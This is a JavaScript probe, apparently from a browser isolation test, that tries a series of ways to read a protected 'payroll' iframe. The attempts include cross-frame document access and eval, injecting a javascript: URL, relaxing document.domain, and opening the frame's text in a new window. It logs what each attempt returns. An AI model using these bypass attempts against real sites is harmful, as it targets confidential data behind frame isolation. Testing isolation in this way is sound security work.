// Tries every way into a frame, and returns what each gave.
async (tokenizer) => {
        const tried = {};
        const attempt = (name, f) => { try { tried[name] = String(f()); } catch (e) { tried[name] = e.name; } };
        const frame = document.querySelector("secure-group, #shown").shadowRoot.querySelector("iframe");
        attempt("contentDocument", () => frame.contentDocument);
        attempt("document", () => frame.contentWindow.document);
        attempt("eval", () => frame.contentWindow.eval("document.body.innerText"));
        attempt("name", () => frame.contentWindow.name);
        attempt("javascript", () => { frame.contentWindow.location = "javascript:alert(1)"; return "asked"; });
        for (let i = 0; i < window.length; i++) {
          attempt("frames" + i, () => window[i].document);
          attempt("href" + i, () => window[i].location.href);
        }
        attempt("domain", () => { document.domain = location.hostname.split(".").slice(1).join("."); return frame.contentWindow.document; });
        const opened = window.open(tokenizer + "/frame/payroll/text");
        await new Promise((done) => setTimeout(done, 800));
        attempt("opened", () => opened.document.body.innerText);
        return tried;
      }
